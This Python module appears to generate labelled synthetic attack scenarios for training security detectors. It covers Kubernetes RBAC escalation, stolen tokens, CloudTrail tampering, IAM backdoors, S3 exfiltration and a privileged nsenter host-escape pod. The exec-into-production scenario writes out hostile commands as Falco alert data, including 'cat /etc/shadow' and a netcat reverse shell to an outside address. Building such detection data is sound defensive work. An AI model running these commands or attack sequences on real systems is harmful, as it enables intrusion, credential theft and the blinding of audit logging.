"""Labelled attack scenarios injected into the test period.

Each scenario is a short story told in the sources that would record it, by
an actor of the organisation (or with its stolen credentials), at a plausible
time; every line it leaves is labelled with the scenario's name. Scenarios are
deliberately not all loud: several come from a known address during working
hours and differ from normal work only in *what* is done.
"""

from __future__ import annotations

from typing import Any

import numpy as np

from training.synthetic.admission import denial_message
from training.synthetic.batch import Batch
from training.synthetic.catalogue import RECON_OPS
from training.synthetic.clock import DAY, HOUR, MINUTE, US, rfc3339_seconds
from training.synthetic.formats import falco
from training.synthetic.formats.cloudtrail import AwsCalls
from training.synthetic.formats.k8s import K8sCalls, allowed_by
from training.synthetic.k8s_humans import edit_reason
from training.synthetic.org import AwsPrincipal
from training.synthetic.runtime import alert
from training.synthetic.scans import LATEST, PRIVILEGED, Finding
from training.synthetic.scenario import Context, Scenario, human_row

RBAC_GROUP = "rbac.authorization.k8s.io"
ATTACKER_KUBECTL = "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f"
ATTACKER_BOTO = "Boto3/1.26.137 Python/3.9.16 Linux/5.15.0-72-generic Botocore/1.29.137"
ATTACKER_CLI = (
    "aws-cli/2.15.0 Python/3.11.6 Linux/6.1.0-13-amd64 exe/x86_64.debian.12 prompt/off "
    "command/s3.cp"
)
ATTACKER_BROWSER = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
    "Safari/537.36"
)


def rbac_privilege_escalation(ctx: Context, label: str) -> list[Batch]:
    """An engineer binds themselves to cluster-admin through a too-broad RBAC grant, reads
    secrets cluster-wide, then removes the binding."""
    p = ctx.person()
    team = ctx.org.teams[p.team]
    t = ctx.at(0, 21.7, p.offset_min)
    binding = "ops-debug-access"
    granted = (
        f'RBAC: allowed by ClusterRoleBinding "{binding}" of ClusterRole "cluster-admin" '
        f'to User "{p.username}"'
    )
    bootstrap = (
        'RBAC: allowed by ClusterRoleBinding "ci-bootstrap" of ClusterRole "rbac-manager" '
        f'to Group "{team.group}"'
    )
    body = {
        "kind": "ClusterRoleBinding",
        "apiVersion": f"{RBAC_GROUP}/v1",
        "metadata": {"name": binding},
        "subjects": [{"kind": "User", "apiGroup": RBAC_GROUP, "name": p.username}],
        "roleRef": {"apiGroup": RBAC_GROUP, "kind": "ClusterRole", "name": "cluster-admin"},
    }
    secrets = [
        ("argocd", "argocd-initial-admin-secret"),
        (ctx.org.ns(ctx.org.teams[0], "prod"), f"{ctx.org.teams[0].apps[0]}-db-credentials"),
        ("kube-system", "aws-load-balancer-tls"),
    ]
    rows = [
        human_row(ctx, p, t, verb="list", resource="clusterroles", reason=bootstrap),
        human_row(
            ctx,
            p,
            t + 25 * US,
            verb="get",
            resource="clusterroles",
            name="cluster-admin",
            reason=bootstrap,
        ),
        human_row(
            ctx,
            p,
            t + 70 * US,
            verb="create",
            resource="clusterrolebindings",
            name=binding,
            code=201,
            reason=bootstrap,
            body=body,
        ),
        human_row(ctx, p, t + 100 * US, verb="list", resource="secrets", reason=granted),
    ]
    rows += [
        human_row(
            ctx,
            p,
            t + (130 + 20 * i) * US,
            verb="get",
            resource="secrets",
            namespace=ns,
            name=name,
            reason=granted,
        )
        for i, (ns, name) in enumerate(secrets)
    ]
    rows += [
        human_row(ctx, p, t + 220 * US, verb="list", resource="nodes", reason=granted),
        human_row(
            ctx,
            p,
            t + 300 * US,
            verb="delete",
            resource="clusterrolebindings",
            name=binding,
            reason=granted,
        ),
    ]
    return ctx.emit.k8s(K8sCalls.rows(rows), label)


def stolen_serviceaccount_token(ctx: Context, label: str) -> list[Batch]:
    """An application's service-account token used from outside: can-i, then secrets everywhere."""
    team = ctx.org.teams[int(ctx.rng.integers(len(ctx.org.teams)))]
    ns, app = ctx.org.ns(team, "prod"), team.apps[0]
    actor = f"system:serviceaccount:{ns}:{app}"
    own = (
        f'RBAC: allowed by RoleBinding "{app}/{ns}" of Role "{app}" to ServiceAccount "{app}/{ns}"'
    )
    t = ctx.at(1, 14.3)
    base = {"actor": actor, "ip": "185.220.101.47", "agent": ATTACKER_KUBECTL}
    offsets = ctx.gaps(20, 6.0)
    others = [n.name for n in ctx.org.namespaces if n.name != ns and n.env != "dev"]
    picked = [others[i] for i in ctx.rng.choice(len(others), 7, replace=False).tolist()]
    steps: list[dict[str, Any]] = [
        {
            "verb": "create",
            "resource": "selfsubjectrulesreviews",
            "code": 201,
            "reason": allowed_by(
                "system:basic-user", "system:basic-user", 'Group "system:authenticated"'
            ),
        },
        {"verb": "list", "resource": "namespaces", "code": 403},
        {"verb": "list", "resource": "secrets", "namespace": ns, "reason": own},
    ]
    steps += [
        {
            "verb": "get",
            "resource": "secrets",
            "namespace": ns,
            "name": f"{app}{suffix}",
            "reason": own,
        }
        for suffix in ("-db-credentials", "-tls", "-api-keys")
    ]
    steps += [
        {"verb": "list", "resource": "secrets", "namespace": other, "code": 403} for other in picked
    ]
    steps += [
        {"verb": "list", "resource": "pods", "namespace": ns, "reason": own},
        {
            "verb": "get",
            "resource": "configmaps",
            "namespace": ns,
            "name": f"{app}-config",
            "reason": own,
        },
    ]
    rows = [{**base, **step, "time": t + offsets[i]} for i, step in enumerate(steps)]
    return ctx.emit.k8s(K8sCalls.rows(rows), label)


def secrets_enumeration(ctx: Context, label: str) -> list[Batch]:
    """An engineer, from the office in working hours, lists secrets across many namespaces."""
    p = ctx.person()
    team = ctx.org.teams[p.team]
    t = ctx.at(2, 11.25, p.offset_min)
    own = [ctx.org.ns(team, "dev"), ctx.org.ns(team, "staging")]
    others = [n.name for n in ctx.org.namespaces if n.team != p.team]
    targets = own + [others[i] for i in ctx.rng.choice(len(others), 10, replace=False).tolist()]
    offsets = ctx.gaps(len(targets) + 6, 9.0)
    rows = []
    for i, ns in enumerate(targets):
        allowed = ns in own
        rows.append(
            human_row(
                ctx,
                p,
                t + offsets[i],
                vpn=False,
                verb="list",
                resource="secrets",
                namespace=ns,
                code=200 if allowed else 403,
                reason=edit_reason(team, ns) if allowed else None,
            )
        )
    staging, prod = ctx.org.ns(team, "staging"), ctx.org.ns(team, "prod")
    for j in range(6):
        ns = staging if j < 4 else prod
        app = team.apps[j % len(team.apps)]
        rows.append(
            human_row(
                ctx,
                p,
                t + offsets[len(targets) + j],
                vpn=False,
                verb="get",
                resource="secrets",
                namespace=ns,
                name=f"{app}-db-credentials",
                code=200 if ns == staging else 403,
                reason=edit_reason(team, ns) if ns == staging else None,
            )
        )
    return ctx.emit.k8s(K8sCalls.rows(rows), label)


def exec_into_production(ctx: Context, label: str) -> list[Batch]:
    """At night, an engineer opens shells in production pods; Falco sees what they run there."""
    p = ctx.person()
    team = ctx.org.teams[p.team]
    ns = ctx.org.ns(team, "prod")
    ns_index = ctx.org.namespace_index(ns)
    t = ctx.at(0, 2.66, p.offset_min)
    pods = ctx.inventory.pod(
        np.array([ns_index, ns_index]), np.array([0, 1]), np.array([t, t]), np.array([0, 1])
    )
    reason = allowed_by("oncall-break-glass", "edit", f'Group "{team.group}"', ns)
    rows = [
        human_row(ctx, p, t, verb="list", resource="pods", namespace=ns, reason=reason),
        human_row(
            ctx,
            p,
            t + 40 * US,
            verb="create",
            resource="pods/exec",
            namespace=ns,
            name=pods[0],
            code=101,
            reason=reason,
        ),
        human_row(
            ctx,
            p,
            t + 600 * US,
            verb="create",
            resource="pods/exec",
            namespace=ns,
            name=pods[1],
            code=101,
            reason=reason,
        ),
    ]
    batches = ctx.emit.k8s(K8sCalls.rows(rows), label)
    pod, container = pods[0], team.apps[0]
    alerts = [
        alert(
            ctx.org,
            "Read sensitive file untrusted",
            ns,
            pod,
            container,
            "cat /etc/shadow",
            "bash",
            {"fd.name": "/etc/shadow"},
        ),
        alert(
            ctx.org,
            "Contact K8S API Server From Container",
            ns,
            pod,
            container,
            "curl -sk https://kubernetes.default.svc/api/v1/namespaces/" + ns + "/secrets",
            "bash",
            {"fd.name": "10.42.7.19:40312->172.20.0.1:443"},
        ),
        alert(
            ctx.org,
            "Launch Suspicious Network Tool in Container",
            ns,
            pod,
            container,
            "nc 45.9.148.3 4444 -e /bin/sh",
            "bash",
        ),
    ]
    times = np.array([t + 95 * US, t + 160 * US, t + 280 * US], dtype=np.int64)
    batches.append(falco.write(alerts, times, ctx.rng).labelled(label))
    return batches


def mass_deletion(ctx: Context, label: str) -> list[Batch]:
    """A team lead's account deletes the team's deployments, services and config across
    production and staging within two minutes."""
    p = ctx.person(roles=("lead",))
    team = ctx.org.teams[p.team]
    t = ctx.at(1, 18.9, p.offset_min)
    rows = []
    steps: list[tuple[str, str, str, str | None]] = []
    for ns in (ctx.org.ns(team, "prod"), ctx.org.ns(team, "staging")):
        for app in team.apps:
            steps += [
                ("delete", "deployments", ns, app),
                ("delete", "services", ns, app),
                ("delete", "configmaps", ns, f"{app}-config"),
            ]
        steps.append(("deletecollection", "pods", ns, None))
    offsets = ctx.gaps(len(steps), 4.0)
    for i, (verb, resource, ns, name) in enumerate(steps):
        reason = allowed_by(f"{team.name}-leads", "admin", f'Group "{team.group}-leads"', ns)
        rows.append(
            human_row(
                ctx,
                p,
                t + offsets[i],
                verb=verb,
                resource=resource,
                namespace=ns,
                name=name,
                reason=reason,
            )
        )
    return ctx.emit.k8s(K8sCalls.rows(rows), label)


def _aws_rows(
    principal: AwsPrincipal,
    t0: int,
    offsets: list[int],
    ops: list[tuple[str, dict[str, Any] | None]],
    ip: str,
    agent: str,
    **common: Any,
) -> list[dict[str, Any]]:
    return [
        {
            "time": t0 + off,
            "principal": principal.key,
            "op": op,
            "region": principal.region,
            "ip": ip,
            "agent": agent,
            "params": params,
            **common,
        }
        for off, (op, params) in zip(offsets, ops, strict=True)
    ]


def cloudtrail_tampering(ctx: Context, label: str) -> list[Batch]:
    """A platform engineer's IAM access key, used from a new address late at night, blinds the
    audit trail: event selectors cut, logging stopped, the second trail deleted."""
    p = ctx.iam_person(("platform", "security", "data"))
    principal = ctx.org.aws[f"iam:{p.iam_user}"]
    acct = principal.account
    trail = f"arn:aws:cloudtrail:us-east-1:{acct}:trail/org-trail"
    ops: list[tuple[str, dict[str, Any] | None]] = [
        ("cloudtrail:DescribeTrails", {"includeShadowTrails": True}),
        ("cloudtrail:GetTrailStatus", {"name": trail}),
        ("cloudtrail:GetEventSelectors", {"trailName": trail}),
        (
            "cloudtrail:PutEventSelectors",
            {
                "trailName": trail,
                "eventSelectors": [
                    {
                        "readWriteType": "ReadOnly",
                        "includeManagementEvents": False,
                        "dataResources": [],
                        "excludeManagementEventSources": [],
                    }
                ],
            },
        ),
        ("cloudtrail:StopLogging", {"name": trail}),
        (
            "cloudtrail:DeleteTrail",
            {"name": f"arn:aws:cloudtrail:us-east-1:{acct}:trail/security-audit-trail"},
        ),
    ]
    t = ctx.at(2, 23.15, p.offset_min)
    rows = _aws_rows(principal, t, ctx.gaps(len(ops), 20.0), ops, "91.219.236.18", ATTACKER_BOTO)
    return ctx.emit.aws(AwsCalls.rows(rows), label)


def iam_persistence(ctx: Context, label: str) -> list[Batch]:
    """An administrator's session creates a second access key for a service user, makes it an
    administrator, adds a backdoor user; the new key is then used from elsewhere."""
    p = ctx.person(kinds=("platform",), roles=("sre", "lead"))
    sso = ctx.org.sso(p)
    t = ctx.at(0, 20.5, p.offset_min)
    victim, backdoor = "backup-agent", "svc-metrics-exporter"
    admin = "arn:aws:iam::aws:policy/AdministratorAccess"
    new_key = AwsPrincipal(
        key="iam:backup-agent/new-key",
        kind="iam_user",
        account=sso.account,
        region="us-east-1",
        ips=("146.70.119.24",),
        agent=ATTACKER_BOTO,
        name=victim,
    )
    ops: list[tuple[str, dict[str, Any] | None]] = [
        ("iam:ListUsers", {"maxItems": 100}),
        ("iam:GetUser", {"userName": victim}),
        ("iam:ListAccessKeys", {"userName": victim}),
        ("iam:CreateAccessKey", {"userName": victim}),
        ("iam:AttachUserPolicy", {"userName": victim, "policyArn": admin}),
        ("iam:CreateUser", {"userName": backdoor, "path": "/"}),
        ("iam:CreateLoginProfile", {"userName": backdoor, "passwordResetRequired": False}),
        ("iam:AttachUserPolicy", {"userName": backdoor, "policyArn": admin}),
    ]
    offsets = ctx.gaps(len(ops), 25.0)
    rows = _aws_rows(sso, t, offsets, ops, p.vpn_ip, p.cli_agent, session=t - 30 * MINUTE)
    created = rfc3339_seconds(np.array([t + offsets[3]]))[0]
    rows[3]["response"] = {
        "accessKey": {
            "accessKeyId": new_key.long_term_key(),
            "status": "Active",
            "userName": victim,
            "createDate": created.replace("Z", ".000Z"),
        }
    }
    later = t + offsets[-1] + 11 * MINUTE
    use: list[tuple[str, dict[str, Any] | None]] = [
        ("sts:GetCallerIdentity", None),
        ("iam:ListAttachedUserPolicies", {"userName": victim}),
        ("s3:ListBuckets", {"Host": "s3.amazonaws.com"}),
    ]
    rows += _aws_rows(new_key, later, ctx.gaps(len(use), 15.0), use, new_key.ips[0], ATTACKER_BOTO)
    return ctx.emit.aws(AwsCalls.rows(rows), label, {new_key.key: new_key})


def s3_exfiltration(ctx: Context, label: str) -> list[Batch]:
    """A data application's role credentials, taken from its pod, copy the team's bucket from a
    hosting provider's address."""
    data_teams = [t for t in ctx.org.teams if t.kind == "data"]
    team = data_teams[int(ctx.rng.integers(len(data_teams)))]
    principal = ctx.org.aws[f"app:{team.apps[0]}"]
    bucket = ctx.org.buckets[team.name]
    t = ctx.at(1, 2.2)
    session = t - t % HOUR
    ops: list[tuple[str, dict[str, Any] | None]] = [
        ("s3:ListBuckets", {"Host": "s3.amazonaws.com"})
    ]
    for prefix in ("", f"{team.apps[0]}/", f"{team.apps[1]}/", "exports/"):
        ops.append(
            (
                "s3:ListObjects",
                {
                    "bucketName": bucket,
                    "Host": f"{bucket}.s3.{principal.region}.amazonaws.com",
                    "prefix": prefix,
                    "list-type": "2",
                    "max-keys": "1000",
                },
            )
        )
    for k in range(160):
        app = team.apps[k % 2]
        ops.append(
            (
                "s3:GetObject",
                {
                    "bucketName": bucket,
                    "Host": f"{bucket}.s3.{principal.region}.amazonaws.com",
                    "key": f"{app}/2026/0{1 + k % 3}/{1 + k % 28:02d}/part-{k:05d}.parquet",
                },
            )
        )
    rows = _aws_rows(
        principal, t, ctx.gaps(len(ops), 9.0), ops, "45.137.21.9", ATTACKER_CLI, session=session
    )
    return ctx.emit.aws(AwsCalls.rows(rows), label)


def console_login_without_mfa(ctx: Context, label: str) -> list[Batch]:
    """An engineer's IAM user signs in to the console without MFA at night from abroad, then
    browses to the secrets."""
    p = ctx.iam_person(("data", "security", "platform"))
    principal = ctx.org.aws[f"iam:{p.iam_user}"]
    t = ctx.at(0, 3.15, p.offset_min)
    team = ctx.org.teams[p.team]
    ops: list[tuple[str, dict[str, Any] | None]] = [
        ("signin:ConsoleLogin", None),
        ("ec2:DescribeInstances", {"instancesSet": {}, "filterSet": {}}),
        ("s3:ListBuckets", {"Host": "s3.amazonaws.com"}),
        ("iam:ListUsers", {"maxItems": 100}),
        ("secretsmanager:ListSecrets", {"maxResults": 100}),
        ("secretsmanager:GetSecretValue", {"secretId": f"{team.name}/{team.apps[0]}/database"}),
        ("secretsmanager:GetSecretValue", {"secretId": "platform/terraform/state-credentials"}),
    ]
    rows = _aws_rows(
        principal,
        t,
        ctx.gaps(len(ops), 35.0),
        ops,
        "102.129.152.60",
        ATTACKER_BROWSER,
        console=True,
        mfa=False,
        session=t,
    )
    return ctx.emit.aws(AwsCalls.rows(rows), label)


def policy_denials_then_privileged_pod(ctx: Context, label: str) -> list[Batch]:
    """Repeated admission denials for privileged pod specs, then a privileged pod admitted
    through a policy exemption label; the scanners keep reporting it."""
    p = ctx.person()
    team = ctx.org.teams[p.team]
    ns = ctx.org.ns(team, "staging")
    reason = edit_reason(team, ns)
    t = ctx.at(0, 19.3, p.offset_min)
    refusals = (
        "privileged container is not allowed: debug",
        "hostPID is not allowed",
        "hostPath volume '/' is not allowed",
        "privileged container is not allowed: debug",
        "container debug must not run as root",
        "hostPath volume '/' is not allowed",
    )
    offsets = ctx.gaps(len(refusals) + 1, 35.0)
    rows = []
    for i, refusal in enumerate(refusals):
        rows.append(
            human_row(
                ctx,
                p,
                t + offsets[i],
                verb="create",
                resource="pods",
                namespace=ns,
                name=f"debug-{i}",
                code=403,
                reason=reason,
                message=denial_message(refusal),
            )
        )
    pod = "node-debugger"
    spec = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": pod,
            "namespace": ns,
            "labels": {"policy.corp.example/exempt": "true"},
        },
        "spec": {
            "hostPID": True,
            "containers": [
                {
                    "name": "debug",
                    "image": "docker.io/library/alpine:latest",
                    "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
                    "securityContext": {"privileged": True},
                }
            ],
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
        },
    }
    created = t + offsets[-1]
    rows.append(
        human_row(
            ctx,
            p,
            created,
            verb="create",
            resource="pods",
            namespace=ns,
            name=pod,
            code=201,
            reason=reason,
            body=spec,
        )
    )
    batches = ctx.emit.k8s(K8sCalls.rows(rows), label)
    started = alert(
        ctx.org,
        "Launch Privileged Container",
        ns,
        pod,
        "debug",
        "nsenter -t 1 -m -u -i -n sh",
        "containerd-shim",
    )
    batches.append(
        falco.write([started], np.array([created + 8 * US], dtype=np.int64), ctx.rng).labelled(
            label
        )
    )
    uid = f"{int(ctx.rng.integers(16**8)):08x}-5d1c-4e0b-9a7f-{int(ctx.rng.integers(16**12)):012x}"
    ctx.findings.append(
        Finding(
            namespace=ns,
            name=pod,
            uid=uid,
            start=created,
            end=min(created + DAY + 2 * HOUR, ctx.period.end),
            label=label,
            kyverno_fails=(PRIVILEGED, LATEST),
            gatekeeper=(
                (
                    "K8sPSPPrivilegedContainer",
                    "psp-privileged-container",
                    "Privileged container is not allowed: debug, "
                    "securityContext: {'privileged': true}",
                ),
                (
                    "K8sPSPHostNamespace",
                    "psp-host-namespace",
                    "Sharing the host namespace is not allowed: node-debugger",
                ),
            ),
        )
    )
    return batches


def low_and_slow_reconnaissance(ctx: Context, label: str) -> list[Batch]:
    """A leaked key of a narrow sync user, from a new address, calls a few read APIs an hour
    across two dozen services for more than a day."""
    principal = ctx.org.aws["iam:s3-sync-legacy"]
    start = ctx.period.test_start + 2 * HOUR
    span = min(30 * HOUR, ctx.period.end - start - HOUR)
    n = max(12, int(span / HOUR * 3))
    times = np.sort(ctx.rng.uniform(0, span, n)).astype(np.int64)
    order = ctx.rng.permutation(np.resize(np.arange(len(RECON_OPS)), n))
    denied = ctx.rng.random(n) < 0.4
    rows = []
    for i in range(n):
        op = RECON_OPS[int(order[i])]
        error = None
        if denied[i] and op not in ("sts:GetCallerIdentity", "s3:ListBuckets"):
            error = "Client.UnauthorizedOperation" if op.startswith("ec2:") else "AccessDenied"
        rows.append(
            {
                "time": start + int(times[i]),
                "principal": principal.key,
                "op": op,
                "region": principal.region,
                "ip": "193.176.86.102",
                "agent": "Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#6.5.0-14-generic "
                "md/arch#x86_64 lang/python#3.11.7",
                "error": error,
            }
        )
    return ctx.emit.aws(AwsCalls.rows(rows), label)


SCENARIOS: dict[str, Scenario] = {
    "rbac_privilege_escalation": rbac_privilege_escalation,
    "stolen_serviceaccount_token": stolen_serviceaccount_token,
    "secrets_enumeration": secrets_enumeration,
    "exec_into_production": exec_into_production,
    "mass_deletion": mass_deletion,
    "cloudtrail_tampering": cloudtrail_tampering,
    "iam_persistence": iam_persistence,
    "s3_exfiltration": s3_exfiltration,
    "console_login_without_mfa": console_login_without_mfa,
    "policy_denials_then_privileged_pod": policy_denials_then_privileged_pod,
    "low_and_slow_reconnaissance": low_and_slow_reconnaissance,
}


def inject(ctx: Context) -> list[Batch]:
    """Every scenario, in a fixed order (their draws come from one stream)."""
    return [batch for name, scenario in SCENARIOS.items() for batch in scenario(ctx, name)]
